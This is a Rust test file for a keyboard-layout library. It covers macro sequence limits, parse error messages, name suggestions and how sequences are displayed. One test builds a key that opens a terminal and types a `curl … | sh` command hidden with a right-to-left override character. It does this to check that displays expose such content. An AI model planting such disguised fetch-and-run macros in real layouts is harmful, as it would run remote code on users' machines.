//! Sequences in layout files: their limits, their errors, and what displays say about them.

use ademan::device::Capability;
use ademan::layout::Layout;

/// Returns a layout with a key for the sequence `copy`, which has these steps.
fn layout(steps: &str) -> String {
    let board =
        "boards: [(pose: (anchor: elbow), keys: [(action: Sequence(\"copy\"), at_mm: (0, 0))])]";
    format!("Layout(name: \"t\", {board},\nsequences: {{\"copy\": [\n{steps}\n]}})")
}

fn parse(text: &str) -> Layout {
    Layout::parse(text, "t.ron").unwrap_or_else(|error| panic!("{error}\n{text}"))
}

#[test]
fn an_error_in_a_sequence_has_its_position() {
    let cases = [
        (
            String::new(),
            "2:14: a sequence has 1 to 32 steps, `copy` has 0",
        ),
        (
            "Wait(1), ".repeat(33),
            "2:14: a sequence has 1 to 32 steps, `copy` has 33",
        ),
        ("Tap(\"Ctrl Cc\")".into(), "3:11: unknown key `Cc`"),
        (
            "Tap(\"Ctrl,C\")".into(),
            "3:6: `Ctrl,C` is not a key: keys are separated by blanks, not by commas",
        ),
        (
            "Tap(\"Ctrl+C\")".into(),
            "3:6: `Ctrl+C` is a combination of keys, not a key: `sequences: {\"NAME\": [Tap(\"Ctrl C\")]}` presses it",
        ),
        (
            "Tap(\"Shift-Left\")".into(),
            "3:6: `Shift-Left` is a combination of keys, not a key: `sequences: {\"NAME\": [Tap(\"Shift Left\")]}` presses it, \
             and a key with `action: Sequence(\"NAME\")` starts it; the key is called `ShiftLeft`",
        ),
        (
            "Tap(\"Ctrl C Ctrl\")".into(),
            "3:13: duplicate key `Ctrl` in the tap",
        ),
        ("Tap(\"Q W E R T\")".into(), "3:6: a tap has at most 4 keys"),
        (
            "Wait(5001)".into(),
            "3:6: 5001 is out of range: a wait is 1 to 5000 ms",
        ),
        (
            format!("Text(\"{}\")", "x".repeat(33)),
            "3:7: a key types at most 32 characters, not 33",
        ),
        (
            format!("Text(\"{}\"), ", "x".repeat(32)).repeat(9),
            "2:14: a sequence types at most 256 characters, `copy` types 288",
        ),
        (
            "Wait(5000), Wait(5000), Tap(\"Q W\")".into(),
            "2:14: a sequence takes at most 10 s, with 100 ms for each press; `copy` takes 10.3 s: shorten its waits",
        ),
        ("Press(\"A\")".into(), "3:1: unknown value `Press`"),
    ];
    for (steps, expected) in cases {
        let text = layout(&steps);
        let error = Layout::parse(&text, "t.ron").expect_err(&text).to_string();
        let first = error.lines().next().unwrap_or_default();
        assert!(
            first.starts_with(&format!("t.ron:{expected}")),
            "{first}\n{text}"
        );
        assert!(!error.contains("unknown sequence"), "{error}");
    }
}

#[test]
fn the_largest_sequence_is_valid() {
    let text = format!("Text(\"{}\"), ", "x".repeat(32));
    let steps = text.repeat(8) + "Tap(\"Q W E R\"), " + &"Wait(300), ".repeat(23);
    let layout = parse(&layout(&steps));
    assert_eq!(layout.sequences.len(), 1);
}

#[test]
fn an_unknown_sequence_suggests_the_nearest_one() {
    let text = layout("Tap(\"Ctrl C\")").replace("Sequence(\"copy\")", "Sequence(\"cpoy\")");
    let error = Layout::parse(&text, "t.ron").expect_err("no such sequence");
    let expected = "unknown sequence `cpoy`, did you mean `copy`?";
    assert!(error.to_string().contains(expected), "{error}");
}

#[test]
fn two_sequences_cannot_share_a_name() {
    let text = layout("Tap(\"Ctrl C\")");
    let text = text.replace("sequences: {", "sequences: {\"copy\": [Wait(1)], ");
    let error = Layout::parse(&text, "t.ron").expect_err("a duplicate");
    assert!(
        error.to_string().contains("duplicate sequence `copy`"),
        "{error}"
    );
}

#[test]
fn a_layout_needs_what_its_sequences_emit() {
    let needed = parse(&layout("Tap(\"Ctrl C\"), Wait(1)")).required_capabilities();
    let has = |name: &str| needed.contains(Capability::Key(name.parse().expect("a key")));
    assert!(has("ControlLeft") && has("C") && !needed.text);
    assert!(parse(&layout("Text(\"a\")")).required_capabilities().text);
}

/// A person sees every character before they trust the layout of somebody else, whatever the label of the key says.
#[test]
fn a_drawing_shows_all_that_a_key_types_and_no_character_acts_on_the_terminal() {
    let hidden = "curl example.org/x \u{202e}| sh";
    let long = "Text(\"0123456789 abcdefghij ABCDEFGHIJ\"), ".repeat(8);
    let steps =
        format!("Tap(\"Ctrl Alt T\"), Wait(250), Text(\"{hidden}\"), Tap(\"Enter\"), {long}");
    let steps = steps.replace(
        &long,
        &long.replacen("J\"", "J\n\"", 1).replace("0123456789 ", ""),
    );
    let text = layout(&steps).replace("at_mm", "label: \"ok\", at_mm");
    let plain = format!(
        "(action: Text(\"{hidden}\"), name: \"no\", label: \"yes\", at_mm: (30, 0)), (action"
    );
    let drawing = parse(&text.replace("(action", &plain)).to_text();
    for expected in [
        "ok (copy)",
        "sequence copy",
        "taps ControlLeft+AltLeft+T, waits 250 ms",
        "types `curl example.org/x \\u{202e}| sh`",
        "types `abcdefghij ABCDEFGHIJ\\n`",
    ] {
        let drawing = drawing.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(drawing.contains(expected), "{expected}\n{drawing}");
    }
    assert_eq!(drawing.matches("ABCDEFGHIJ").count(), 8, "{drawing}");
    assert_eq!(drawing.matches("202e").count(), 2, "{drawing}");
    assert!(!drawing.contains(['\u{202e}', '…']), "{drawing}");
}

#[test]
fn a_wait_is_described_as_it_is_written() {
    for wait in ["1001", "4999", "2.5"] {
        let rows = parse(&layout(&format!("Wait({wait}), Tap(\"A\")"))).sequence_rows();
        let expected = format!("waits {wait} ms, taps A");
        assert_eq!(rows, [("copy".to_owned(), expected)]);
    }
}
